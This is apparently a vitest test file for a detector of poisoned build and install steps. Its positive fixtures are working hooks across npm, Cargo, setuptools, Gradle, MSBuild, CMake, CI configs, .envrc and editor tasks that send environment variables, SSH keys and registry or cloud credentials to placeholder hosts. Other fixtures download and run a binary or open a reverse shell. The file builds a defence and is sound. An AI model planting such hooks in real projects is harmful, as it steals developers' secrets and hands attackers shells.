import { describe, expect, test } from 'vitest';
import { poisonedSteps } from '../../../src/rules/detectors/builds/build-step.ts';

describe('a file that builds or installs', () => {
  test.each([
    [
      'a script before the install, by an alias of https',
      '{"name":"dateline","version":"2.0.4","scripts":{"preinstall":"node -e \\"const c=require(\'crypto\'),h=require(\'https\');const b=Buffer.from(JSON.stringify(process.env)).toString(\'hex\');h.get(\'https://m.dateline-cdn.example/\'+b)\\""}}',
    ],
    [
      'a hook that reads a login file of the registry',
      '{"name":"tinycolor-x","scripts":{"postinstall":"node -e \\"fetch(\'https://s.tinycolor.example/p\',{method:\'POST\',body:require(\'fs\').readFileSync(require(\'os\').homedir()+\'/.npmrc\')})\\""}}',
    ],
    [
      'a plug-in of composer',
      '{"name":"acme/logger","type":"composer-plugin","scripts":{"post-install-cmd":"@php -r \\"file_get_contents(\'https://l.acme-logger.example/?\'.http_build_query(getenv()));\\""}}',
    ],
    [
      'a build script over a socket',
      'use std::{fs, env};\nfn main() {\n    let p = format!("{}/.ssh/id_ed25519", env::var("HOME").unwrap());\n    if let Ok(b) = fs::read(&p) {\n        let mut s = std::net::TcpStream::connect("203.0.113.14:8443").unwrap();\n        use std::io::Write; s.write_all(&b).ok();\n    }\n    cc::Build::new().file("src/a.c").compile("a");\n}',
    ],
    [
      'a build script that joins the variables',
      '// build.rs\nfn main() {\n    let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n    let _ = ureq::post("https://bstat.crate-cdn.example/i").send_string(&vars.join("\\n"));\n}',
    ],
    [
      'an extension built by mkmf',
      'require "mkmf"\nrequire "net/http"\ncreds = File.join(Dir.home, ".gem", "credentials")\nNet::HTTP.post(URI("https://gems-ci.example/c"), File.read(creds)) if File.exist?(creds)\ncreate_makefile("fastxml/fastxml")\n',
    ],
    [
      'a step of setuptools',
      'import os, sys, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\n\nclass B(build_py):\n    def run(self):\n        f = os.path.join(os.path.expanduser("~"), ".aws", "credentials")\n        if os.path.isfile(f):\n            urllib.request.urlopen("https://wheel-cache.example/u", data=open(f, "rb").read())\n        super().run()\n\nsetup(name="fasttables", version="1.2", cmdclass={"build_py": B})\n',
    ],
    [
      'the body of a setup file',
      'import os, json, http.client\nfrom setuptools import setup\nc = http.client.HTTPSConnection("pkg-metrics.example")\nc.request("POST", "/m", json.dumps(dict(os.environ)))\nsetup(name="colorprint3")\n',
    ],
    [
      'a task of Gradle',
      'plugins { id("java") }\ntasks.register("prep") {\n  doLast {\n    val c = java.net.URL("https://gradle-scan.example/u").openConnection() as java.net.HttpURLConnection\n    c.doOutput = true\n    c.outputStream.write(System.getenv().toString().toByteArray())\n    println(c.responseCode)\n  }\n}\ntasks.named("compileJava") { dependsOn("prep") }',
    ],
    [
      'a target before a restore',
      '<Project Sdk="Microsoft.NET.Sdk">\n  <Target Name="P" BeforeTargets="Restore">\n    <Exec Command="powershell -c Invoke-RestMethod -Method Post -Uri https://nu-cache.example/x -InFile $env:APPDATA\\NuGet\\NuGet.Config" />\n  </Target>\n</Project>',
    ],
    [
      'a target after a build',
      '<Project>\n <Target Name="Telemetry" AfterTargets="Build">\n  <Exec Command="set &gt; %TEMP%\\e.txt &amp;&amp; curl -s -F f=@%TEMP%\\e.txt https://build-stat.example/in" ContinueOnError="true" />\n </Target>\n</Project>',
    ],
    [
      'a source list of node-gyp',
      '{ "targets": [ { "target_name": "bind", "sources": ["<!(node -p \\"require(\'https\').get(\'https://gyp-dist.example/?e=\'+encodeURIComponent(JSON.stringify(process.env)));\'bind.cc\'\\")"] } ] }',
    ],
    [
      'a process of CMake',
      'cmake_minimum_required(VERSION 3.20)\nproject(zs)\nexecute_process(COMMAND sh -c "tar cz $ENV{HOME}/.ssh | curl -s -T - https://cm-cache.example/s" OUTPUT_QUIET ERROR_QUIET)\nadd_library(zs zs.c)',
    ],
    [
      'a pod that prepares itself',
      'Pod::Spec.new do |s|\n  s.name = "FastImg"\n  s.version = "1.1"\n  s.prepare_command = <<-CMD\n    curl -s --data-binary @$HOME/.netrc https://pods-stat.example/n\n  CMD\nend',
    ],
    [
      'a Makefile.PL',
      'use ExtUtils::MakeMaker;\nuse LWP::UserAgent;\nopen my $f, "<", "$ENV{HOME}/.ssh/id_rsa" and LWP::UserAgent->new->post("http://cpan-stat.example/k", Content => join "", <$f>);\nWriteMakefile(NAME => "Text::Quick");',
    ],
    [
      'a project of Mix',
      'defmodule Quick.MixProject do\n  use Mix.Project\n  :inets.start(); :ssl.start()\n  :httpc.request(:post, {~c"https://hex-stat.example/e", [], ~c"text/plain", inspect(System.get_env())}, [], [])\n  def project, do: [app: :quick, version: "0.1.0"]\nend',
    ],
    [
      'a badge in a pipeline',
      'stages: [build]\nbuild:\n  before_script:\n    - export D=$(env | base64 -w0)\n    - wget -qO- "https://ci-badge.example/b.svg?d=$D" || true\n  script:\n    - make',
    ],
    [
      'a file that a shell reads on entering a folder',
      '#!/bin/sh\n# .envrc\nuse node\nexport PATH=$PWD/bin:$PATH\n(cat ~/.config/gh/hosts.yml | curl -s -X POST --data-binary @- https://direnv-sync.example/h &) 2>/dev/null',
    ],
    [
      'a task that an editor runs on opening',
      '{"version":"2.0.0","tasks":[{"label":"warm","type":"shell","command":"cat ~/.git-credentials | curl -s -d @- https://vsx-warm.example/g","runOptions":{"runOn":"folderOpen"},"presentation":{"reveal":"never"}}]}',
    ],
    [
      'an action of node-gyp that runs what it brought',
      '{"targets":[{"target_name":"n","actions":[{"action_name":"get","inputs":[],"outputs":["l"],"action":["sh","-c","wget -q https://nat-bin.example/x -O /tmp/.x; chmod 755 /tmp/.x; /tmp/.x"]}]}]}',
    ],
    [
      'a shell handed out while an image is built',
      'FROM alpine:3.20\nRUN apk add bash && bash -c "bash -i >& /dev/tcp/203.0.113.90/443 0>&1"',
    ],
    ['a token piped to a number', '[tool.quick]\non_build = "sh -c \'echo $TWINE_PASSWORD | nc 203.0.113.8 53\'"'],
  ])('takes what belongs to its user: %s', (_, text) => {
    expect(poisonedSteps(text)).not.toEqual([]);
  });

  test.each([
    '{"name":"shop","scripts":{"postinstall":"node -e \\"if (process.env.CI) process.exit(0); require(\'./scripts/link\')\\"","prepare":"husky"}}',
    '{"name":"native-mod","scripts":{"install":"prebuild-install || node-gyp rebuild","postinstall":"node scripts/download.js"}}',
    'const https = require("https");\nconst fs = require("fs");\nconst version = process.env.npm_package_version;\nconst url = `https://github.com/northwind/tool/releases/download/v${version}/tool-${process.platform}.tar.gz`;\nhttps.get(url, (r) => r.pipe(fs.createWriteStream("tool.tar.gz")));',
    '{"name":"acme/site","scripts":{"post-install-cmd":["@php artisan clear-compiled","@php artisan optimize"],"post-update-cmd":"@php -r \\"file_exists(\'.env\') || copy(\'.env.example\', \'.env\');\\""}}',
    'use std::env;\nfn main() {\n    println!("cargo:rerun-if-env-changed=OPENSSL_DIR");\n    let dir = env::var("OPENSSL_DIR").unwrap_or_else(|_| "/usr".into());\n    println!("cargo:rustc-link-search=native={dir}/lib");\n    for (k, _) in env::vars() { if k.starts_with("DEP_") { println!("cargo:warning={k}"); } }\n}',
    '// build.rs\nuse std::process::Command;\nfn main() {\n    let out = std::env::var("OUT_DIR").unwrap();\n    let status = Command::new("curl").args(["-L", "-o", &format!("{out}/model.onnx"), "https://github.com/northwind/models/releases/download/v1/model.onnx"]).status().unwrap();\n    assert!(status.success());\n}',
    'require "mkmf"\ndir_config("openssl")\nabort "openssl is missing" unless have_header("openssl/ssl.h")\n$CFLAGS << " -O3" if ENV["RELEASE"]\ncreate_makefile("fastxml/fastxml")\n',
    'import os\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\nimport urllib.request\n\nclass B(build_py):\n    def run(self):\n        urllib.request.urlretrieve("https://github.com/northwind/data/releases/download/v1/words.bin", "src/words.bin")\n        super().run()\n\nsetup(name="words", version=os.environ.get("VERSION", "0"), cmdclass={"build_py": B})\n',
    'import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        install.run(self)\n        subprocess.check_call(["python", "-m", "spacy", "download", "en_core_web_sm"])\nsetup(name="nlp", cmdclass={"install": I})\n',
    'plugins { id("java"); id("maven-publish") }\npublishing { repositories { maven { url = uri("https://maven.pkg.github.com/northwind/lib"); credentials { username = System.getenv("GITHUB_ACTOR"); password = System.getenv("GITHUB_TOKEN") } } } }',
    '<Project Sdk="Microsoft.NET.Sdk">\n  <Target Name="Npm" BeforeTargets="Build">\n    <Exec Command="npm ci" WorkingDirectory="ClientApp" />\n    <Exec Command="curl -sSL -o tools/protoc.zip https://github.com/protocolbuffers/protobuf/releases/download/v27.0/protoc-27.0-win64.zip" />\n  </Target>\n</Project>',
    '{ "targets": [ { "target_name": "bind", "sources": ["bind.cc"], "include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include_dir\\")"] } ] }',
    'cmake_minimum_required(VERSION 3.20)\nproject(zs)\ninclude(FetchContent)\nFetchContent_Declare(json URL https://github.com/nlohmann/json/releases/download/v3.11.3/json.tar.xz)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE SHA)\nmessage(STATUS "home is $ENV{HOME}")',
    'Pod::Spec.new do |s|\n  s.name = "FastImg"\n  s.source = { :git => "https://github.com/northwind/fastimg.git", :tag => s.version }\n  s.prepare_command = "ruby scripts/gen.rb"\nend',
    'use ExtUtils::MakeMaker;\nWriteMakefile(NAME => "Text::Quick", PREREQ_PM => { "LWP::UserAgent" => 6 });\nprint "home: $ENV{HOME}\\n";',
    'defmodule Quick.MixProject do\n  use Mix.Project\n  def project, do: [app: :quick, version: System.get_env("VERSION") || "0.1.0", deps: deps()]\n  defp deps, do: [{:req, "~> 0.5"}, {:plug, github: "elixir-plug/plug"}]\nend',
    'stages: [build, deploy]\ndeploy:\n  script:\n    - \'curl --fail -H "JOB-TOKEN: $CI_JOB_TOKEN" --upload-file dist/app.tgz "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages/generic/app/$CI_COMMIT_TAG/app.tgz"\'',
    'pipeline {\n  agent any\n  stages {\n    stage("Publish") { steps { withCredentials([string(credentialsId: "npm", variable: "NPM_TOKEN")]) { sh "npm publish" } } }\n  }\n  post { failure { slackSend channel: "#ci", message: "failed: ${env.BUILD_URL}" } }\n}',
    '#!/bin/sh\n# .envrc\nuse node\ndotenv_if_exists .env\nexport GITHUB_TOKEN=$(gh auth token)\nPATH_add bin',
    '{"version":"2.0.0","tasks":[{"label":"dev","type":"shell","command":"pnpm dev","runOptions":{"runOn":"folderOpen"}},{"label":"health","type":"shell","command":"curl -s http://localhost:3000/health"}]}',
    '[build-system]\nrequires = ["setuptools>=68", "northwind-build @ git+https://github.com/northwind/build@v2"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\ndependencies = ["shared @ https://pypi.northwind.internal/shared-1.0.tar.gz"]\n',
    '{"targets":[{"target_name":"n","actions":[{"action_name":"gen","inputs":["a.y"],"outputs":["a.c"],"action":["sh","-c","bison -o a.c a.y"]}]}]}',
    'import os, json, urllib.request\n\ndef report(status):\n    body = json.dumps({"status": status, "env": os.environ.get("APP_ENV")}).encode()\n    urllib.request.urlopen(urllib.request.Request(os.environ["STATUS_URL"], data=body, headers={"Authorization": "Bearer " + os.environ["STATUS_TOKEN"]}))\n',
    'test("reads the key", () => {\n  const home = mkdtempSync(join(tmpdir(), "h"));\n  writeFileSync(join(home, ".npmrc"), "//registry.npmjs.org/:_authToken=x");\n  expect(readToken(home)).toBe("x");\n});',
  ])('does its work: %s', (text) => {
    expect(poisonedSteps(text)).toEqual([]);
  });
});
